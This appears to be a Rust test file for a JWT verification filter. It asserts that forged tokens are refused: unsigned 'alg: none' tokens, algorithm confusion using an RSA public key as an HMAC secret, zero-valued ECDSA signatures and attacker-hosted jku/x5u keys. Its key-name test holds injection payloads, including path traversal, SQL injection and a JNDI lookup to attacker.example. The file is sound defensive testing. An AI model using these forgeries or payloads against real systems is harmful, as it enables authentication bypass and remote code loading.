//! Tokens that somebody made up. None passes, none traps, and each is refused for its own reason.

mod parsers;

use super::*;
use jwt_simple::prelude::{HS256Key, MACLike};

/// A token as it would be, and the same with another header.
fn with_header(header: &str) -> String {
    signed(header, &claims().to_string())
}

#[test]
fn a_token_that_nobody_signed_is_refused_in_every_spelling() {
    let filter = filter(json!({}));
    let cased = |bits: usize| -> String {
        let flip = |(index, letter): (usize, char)| {
            if bits >> index & 1 == 1 { letter.to_ascii_uppercase() } else { letter }
        };
        "none".chars().enumerate().map(flip).collect()
    };
    let every_case = (0..16).map(cased);
    let others =
        ["", "none ", " none", "NoNe\\u0000", "n\\u006fne", "null", "HS256 ", "eddsa", "EDDSA"];
    for alg in every_case.chain(others.map(str::to_owned)) {
        let unsigned = with_header(&format!(r#"{{"alg":"{alg}","kid":"main"}}"#));
        let (text, _) = unsigned.rsplit_once('.').unwrap();
        for token in [format!("{text}."), unsigned.clone(), format!("{text}.AA")] {
            assert_eq!(code_for(&filter, &token), "algorithm_not_allowed", "{alg:?}");
        }
    }
    for header in
        [r#"{"kid":"main"}"#, r#"{"alg":null}"#, r#"{"alg":["EdDSA"]}"#, r#"{"alg":1}"#, "{}"]
    {
        assert_eq!(code_for(&filter, &with_header(header)), "token_malformed", "{header}");
    }
}

#[test]
fn a_signature_that_is_empty_cut_or_stretched_is_refused() {
    let filter = filter(json!({}));
    let token = token(&claims());
    assert_eq!(code_for(&filter, &token), "allowed");
    let (text, signature) = token.rsplit_once('.').unwrap();
    for (signature, want) in [
        (String::new(), "signature_invalid"),
        ("AA".into(), "signature_invalid"),
        (base64(&[0; 64]), "signature_invalid"),
        (base64(&[0xff; 64]), "signature_invalid"),
        (signature[..84].into(), "signature_invalid"),
        (format!("AAAA{signature}"), "signature_invalid"),
        (format!("{}AAAA", &signature[..84]), "signature_invalid"),
    ] {
        assert_eq!(code_for(&filter, &format!("{text}.{signature}")), want, "{signature}");
    }
}

#[test]
fn a_token_has_exactly_one_spelling() {
    let filter = filter(json!({}));
    let token = token(&claims());
    let [header, payload, signature] = token.split('.').collect::<Vec<_>>()[..] else { panic!() };
    // 64 bytes leave four unused bits in the last character.
    let (respelled, last) = signature.split_at(signature.len() - 1);
    let unused_bits = format!("{respelled}{}", char::from(last.as_bytes()[0] + 1));
    for token in [
        format!("{header}.{payload}.{unused_bits}"),
        format!("{header}.{payload}.{signature}=="),
        format!("{header}=.{payload}.{signature}"),
        format!("{header}.{payload}==.{signature}"),
        format!("{token}."),
        format!(".{token}"),
        format!("{token}.{signature}"),
        format!("{header}..{payload}.{signature}"),
        format!("{header}.{payload}"),
        format!("{header}{payload}{signature}"),
        format!("..{signature}"),
        format!("{header}.."),
        "..".to_owned(),
        ".".to_owned(),
        String::new(),
        format!("{header}. {payload}.{signature}"),
        format!("{header}.{payload}.{signature} x"),
        format!("{header}.{payload}.{}\t", signature),
        format!("{header}.{payload}.{}\u{a0}", signature),
        format!("{header}.{payload}.+{}", &signature[1..]),
        format!("{header}.{payload}./{}", &signature[1..]),
        format!("{header}%2E{payload}%2E{signature}"),
        format!("\"{token}\""),
        format!("{{\"payload\":\"{payload}\",\"signatures\":[{{\"protected\":\"{header}\"}}]}}"),
    ] {
        let want = match &*token {
            "" => "token_missing",
            token if token.contains(',') => "token_repeated",
            _ => "token_malformed",
        };
        assert_eq!(code_for(&filter, &token), want, "{token}");
    }
}

#[test]
fn no_byte_of_a_token_can_be_changed() {
    let filter = filter(json!({}));
    let token = token(&claims());
    for position in 0..token.len() {
        for change in [1, 2, 4, 8, 16, 32] {
            let mut bytes = token.clone().into_bytes();
            bytes[position] ^= change;
            let changed = String::from_utf8(bytes).unwrap();
            assert_ne!(code_for(&filter, &changed), "allowed", "{position} {change}");
        }
    }
}

#[test]
fn a_public_key_is_never_a_secret() {
    let pair = jwt_simple::prelude::RS256KeyPair::generate(2048).unwrap().with_key_id("rsa");
    let jwk: Value = serde_json::from_str(&pair.public_key().to_jwk()).unwrap();
    for alg in [Some("RS256"), None] {
        let mut jwk = jwk.clone();
        if alg.is_none() {
            jwk.as_object_mut().unwrap().remove("alg");
        }
        let filter = filter(
            json!({"providers": [{"name": "rsa", "issuer": ISSUER, "jwks": {"keys": [jwk]}}]}),
        );
        let public_key = pair.public_key();
        for secret in [
            public_key.to_pem().unwrap().into_bytes(),
            public_key.to_pem().unwrap().trim().into(),
            public_key.to_der().unwrap(),
            public_key.to_components().n,
            jwk["n"].as_str().unwrap().into(),
            vec![],
        ] {
            let header = base64(br#"{"alg":"HS256","kid":"rsa"}"#);
            let text = format!("{header}.{}", base64(claims().to_string().as_bytes()));
            let tag = HS256Key::from_bytes(&secret).authentication_tag(text.as_bytes());
            let code = code_for(&filter, &format!("{text}.{}", base64(&tag)));
            assert_eq!(code, "algorithm_not_allowed", "{alg:?}");
        }
    }
}

#[test]
fn an_ecdsa_signature_of_zeros_is_refused_even_where_the_host_would_believe_it() {
    struct Gullible;
    impl gatehouse_filter::Signatures for Gullible {
        fn verify(
            &self,
            _: gatehouse_filter::Hash,
            _: &[u8],
            _: &[u8],
            _: &[u8],
        ) -> Result<bool, gatehouse_filter::NoVerifier> {
            Ok(true)
        }
    }
    // The public points of the private key 1: the generators.
    let generators = [
        (
            "ES256",
            "P-256",
            32,
            json!({"x": "axfR8uEsQkf4vOblY6RA8ncDfYEt6zOg9KE5RdiYwpY", "y": "T-NC4v4af5uO5-tKfA-eFivOM1drMV7Oy7ZAaDe_UfU"}),
        ),
        (
            "ES384",
            "P-384",
            48,
            json!({"x": "qofKIr6LBTeOscce8yCtdG4dO2KLp5uYWfdB4IJUKjhVAvJdv1UpbDpUXjhydgq3", "y": "NhfeSpYmLG9dnpi_kpLcKfj0Hb0omhR86doxE7XwuMAKYLHOHX6BnXpDHXyQ6g5f"}),
        ),
        (
            "ES512",
            "P-521",
            66,
            json!({"x": "AMaFjga3BATpzZ4-y2YjlbRCnGSBOQU_tSH4KK9ga009uqFLXnfv51ko_h3BJ6L_qN4zSLPBhWpCm_l-fjHC5b1m", "y": "ARg5KWp4mjvABFyKX7QsfRvZmPVESVebRGgXr70XJz5mLJfucple9CZAxVC5AT-tB2E1PHCGonLCQIi-lHaf0WZQ"}),
        ),
    ];
    for (alg, curve, length, point) in generators {
        let jwk = json!({"kty": "EC", "crv": curve, "x": point["x"], "y": point["y"]});
        let keys = crate::KeySet::from_json(json!({"keys": [jwk]}).to_string().as_bytes()).unwrap();
        let text =
            format!("{}.{}", base64(json!({"alg": alg}).to_string().as_bytes()), base64(b"{}"));
        let (zero, one) = (vec![0; length], [vec![0; length - 1], vec![1]].concat());
        let verify = |signature: Vec<u8>, host: Option<&dyn gatehouse_filter::Signatures>| {
            let token = format!("{text}.{}", base64(&signature));
            crate::verify_compact(token.as_bytes(), &keys, host)
        };
        for signature in [
            [zero.clone(), zero.clone()].concat(),
            [zero.clone(), one.clone()].concat(),
            [one.clone(), zero].concat(),
            // Of another length, whatever it is of.
            vec![],
            one.clone(),
            [one.clone(), one.clone(), one.clone()].concat(),
            // In DER.
            vec![0x30, 6, 2, 1, 1, 2, 1, 1],
        ] {
            let refused = Err(crate::Refusal::SignatureInvalid);
            assert_eq!(verify(signature.clone(), Some(&Gullible)), refused, "{alg} {signature:?}");
            assert_eq!(verify(signature.clone(), None), refused, "{alg} {signature:?}");
        }
        let ones = [one.clone(), one].concat();
        assert!(verify(ones.clone(), Some(&Gullible)).is_ok(), "{alg}: this host is asked");
        assert!(verify(ones, None).is_err(), "{alg}");
    }
}

#[test]
fn keys_and_places_of_keys_in_a_header_are_not_looked_at() {
    let filter = filter(json!({}));
    let theirs = ed25519_compact::KeyPair::from_seed(ed25519_compact::Seed::new([9; 32]));
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "kid": "main", "x": base64(&theirs.pk[..])});
    for member in [
        json!({"jwk": jwk}),
        json!({"jwk": jwk.to_string()}),
        json!({"jku": "https://attacker.example/jwks.json"}),
        json!({"x5u": "https://attacker.example/cert.pem"}),
        json!({"x5c": ["MIIB"]}),
        json!({"x5t": "AAAA", "x5t#S256": "AAAA"}),
    ] {
        let mut header = member.clone();
        header["alg"] = json!("EdDSA");
        header["kid"] = json!("main");
        let text = format!(
            "{}.{}",
            base64(header.to_string().as_bytes()),
            base64(claims().to_string().as_bytes())
        );
        let forged = format!("{text}.{}", base64(&theirs.sk.sign(&text, None)[..]));
        assert_eq!(code_for(&filter, &forged), "signature_invalid", "{member}");
        // They are no reason to refuse what the right key signed.
        assert_eq!(code_for(&filter, &with_header(&header.to_string())), "allowed", "{member}");
    }
}

#[test]
fn a_key_name_is_compared_and_nothing_else() {
    let filter = filter(json!({}));
    for kid in [
        "../../../../dev/null",
        "/dev/null",
        "main/../main",
        "MAIN",
        "main ",
        "' or 1=1 --",
        "main\\u0000",
        "${jndi:ldap://attacker.example}",
        "https://attacker.example/",
        "",
    ] {
        let token = with_header(&format!(r#"{{"alg":"EdDSA","kid":"{kid}"}}"#));
        assert_eq!(code_for(&filter, &token), "key_unknown", "{kid}");
    }
    for kid in ["1", "null", "[\"main\"]", "{}", "true"] {
        let token = with_header(&format!(r#"{{"alg":"EdDSA","kid":{kid}}}"#));
        assert_eq!(code_for(&filter, &token), "token_malformed", "{kid}");
    }
    assert_eq!(
        code_for(&filter, &with_header(r#"{"alg":"EdDSA"}"#)),
        "allowed",
        "no kid: every key is tried"
    );
}

#[test]
fn extensions_that_must_be_understood_are_not() {
    let filter = filter(json!({}));
    for crit in [r#"["b64"]"#, r#"["exp"]"#, "[]", "null", "\"x\"", r#"["alg"]"#] {
        let header = format!(r#"{{"alg":"EdDSA","kid":"main","b64":false,"exp":1,"crit":{crit}}}"#);
        assert_eq!(code_for(&filter, &with_header(&header)), "critical_unsupported", "{crit}");
    }
}

#[test]
fn the_header_of_the_last_good_token_is_taken_for_no_other() {
    let filter = filter(json!({"cache": {"tokens": 0}}));
    let payload = claims().to_string();
    let usual = r#"{"alg":"EdDSA","kid":"main"}"#;
    let good = signed(usual, &payload);
    let encoded = base64(usual.as_bytes());
    let (_, rest) = good.split_once('.').unwrap();
    for (token, want) in [
        (good.clone(), "allowed"),
        (signed(r#"{"alg":"EdDSA"}"#, &payload), "allowed"),
        (signed(r#"{"alg":"EdDSA","kid":"main"} "#, &payload), "allowed"),
        (signed(r#"{"alg":"EdDSA","kid":"other"}"#, &payload), "key_unknown"),
        (signed(r#"{"alg":"EdDSA","kid":"main","crit":[]}"#, &payload), "critical_unsupported"),
        (format!("{encoded}.{good}"), "token_malformed"),
        (format!("{encoded}..{rest}"), "token_malformed"),
        (format!("{encoded}A.{rest}"), "token_malformed"),
        (format!("{}.{rest}", &encoded[..encoded.len() - 1]), "token_malformed"),
        (encoded.clone(), "token_malformed"),
        (format!("{encoded}."), "token_malformed"),
        (format!("{encoded}.{}", base64(&[0; 64])), "token_malformed"),
    ] {
        // Remembered before each: whatever the token before it was.
        assert_eq!(code_for(&filter, &good), "allowed");
        assert_eq!(code_for(&filter, &token), want, "{token}");
    }
}
